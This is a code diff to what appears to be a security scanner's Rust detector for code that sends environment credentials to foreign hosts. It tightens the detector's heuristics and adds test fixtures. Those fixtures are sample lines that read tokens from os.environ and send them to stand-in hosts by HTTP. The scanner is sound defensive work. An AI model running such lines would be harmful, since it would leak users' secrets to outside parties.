@@ -5,7 +5,6 @@ use redan_domain::Severity;
 use super::Look;
 use crate::agent::facts::SENDS_SECRETS;
 use crate::agent::host;
-use crate::agent::mention::line_around;
 use crate::agent::pattern::{Match, Pattern};
 use crate::agent::sheet::quoted;
 
@@ -23,6 +22,12 @@ static IN_TURN: Pattern = Pattern::new(
 );
 /// Bytes behind the names in which each is used.
 const BEHIND: usize = 300;
+/// Places of a name that are looked at, and bytes around them.
+const PLACES: usize = 32;
+const AROUND: usize = 120;
+/// Calls that show a value, or only what is known of it.
+const SHOWS: &[&str] =
+    &["print(", "len(", "bool(", "log(", "info(", "debug(", "warn(", "error(", "mask(", "redact(", "echo("];
 
 pub(super) fn look(look: &mut Look<'_, '_>) {
     if look.sheet.prose || look.shell || crate::agent::place::is_test(look.sheet.path) {
@@ -35,7 +40,7 @@ pub(super) fn look(look: &mut Look<'_, '_>) {
         look.add(SENDS_SECRETS, Severity::High, &found, message);
     }
     if super::steal::sends(look)
-        && let Some((address, _)) = look.worst_host().filter(|(_, host)| host.is_foreign())
+        && let Some((address, _)) = look.worst_host().filter(|(at, host)| host.is_foreign() && !look.is_own(at))
         && let Some(found) = look.all(&IN_TURN).into_iter().find(|found| takes_values(look, found))
     {
         let message = format!("takes the credentials of several makers and sends to {}", quoted(address));
@@ -43,18 +48,28 @@ pub(super) fn look(look: &mut Look<'_, '_>) {
     }
 }
 
-/// The address of a match, if nothing is known of it and it is not the maker's own.
+/// The address of a match, if nothing is known of it, it is not the maker's own, and nothing else goes there.
 fn foreign(look: &Look<'_, '_>, found: &Match<'_>) -> Option<String> {
     let address = found.text.split(['"', '\'', '`']).next()?;
-    (host::classify(address).is_foreign() && !look.is_own(address)).then(|| quoted(address))
+    let other = look.text.matches(host::name(address).as_str()).nth(1).is_none();
+    (other && host::classify(address).is_foreign() && !look.is_own(address)).then(|| quoted(address))
 }
 
-/// Whether another line presents the same credential to somebody.
+/// Whether the same credential is presented to somebody elsewhere.
 fn is_presented(look: &Look<'_, '_>, found: &Match<'_>) -> bool {
     let name = found.group.unwrap_or_default().to_ascii_lowercase();
-    let others = look.lower.match_indices(&name).filter(|(at, _)| !found.span.contains(at));
-    let mut lines = others.map(|(at, name)| line_around(look.lower, &(at..at + name.len())));
-    lines.any(|line| PRESENTED.iter().any(|word| line.contains(word)))
+    let others = look.lower.match_indices(&name).filter(|(at, _)| !found.span.contains(at)).take(PLACES);
+    let mut near = others.filter_map(|(at, name)| {
+        let before = look.lower.get(look.lower.floor_char_boundary(at.saturating_sub(AROUND))..at)?;
+        let after = look.lower.get(at + name.len()..)?;
+        let quoted =
+            before.ends_with(['"', '\'', '.']) && !after.starts_with(|c: char| c.is_alphanumeric() || c == '_');
+        before
+            .rsplit('\n')
+            .next()
+            .filter(|before| quoted && ["environ", "getenv", "process.env"].iter().any(|it| before.contains(it)))
+    });
+    near.any(|before| PRESENTED.iter().any(|word| before.contains(word)))
 }
 
 /// Whether the values go on, and it is not only asked which there are.
@@ -64,7 +79,10 @@ fn takes_values(look: &Look<'_, '_>, found: &Match<'_>) -> bool {
     let behind = look.lower.get(found.span.end..to).unwrap_or_default();
     let value = [format!("environ[{name}]"), format!("process.env[{name}]")];
     behind.lines().map(str::trim_start).any(|line| {
-        let given = |at: usize| line.get(..at).is_some_and(|before| before.contains(['(', '+', '{']));
+        let given = |at: usize| {
+            let before = line.get(..at).unwrap_or_default();
+            before.contains(['(', '+']) && !SHOWS.iter().any(|call| before.contains(call))
+        };
         !line.starts_with("if ") && value.iter().filter_map(|value| line.find(value)).any(given)
     })
 }
@@ -80,6 +98,10 @@ mod tests {
         assert!(found(&format!("{own}{other}")));
         // For whom it is.
         assert!(!found(other.replace("PSP_TOKEN", "SEARCH_KEY").as_str()));
+        let same = "c.get('https://watch.shop-log.site/u', headers={'Authorization': os.environ['PSP_TOKEN']})\n";
+        assert!(!found(&format!("{same}{other}")));
+        let other = "session_token = c.post('https://sso.corp-x.io/l', json={'t': os.environ['TOKEN']})\n";
+        assert!(!found(&format!("{other}c.get(u, headers={{'Authorization': f'Bearer {{session_token}}'}})\n")));
     }
 
     #[test]
@@ -89,5 +111,6 @@ mod tests {
         let send = "\nrequests.post('https://compat.pkg-notes.dev/v', json=x)\n";
         assert!(found(&format!("{all}note(k + ':' + os.environ[k]){send}")));
         assert!(!found(&format!("{all}have.append(k){send}")));
+        assert!(!found(&format!("{all}print(k, len(os.environ[k])){send}")));
     }
 }
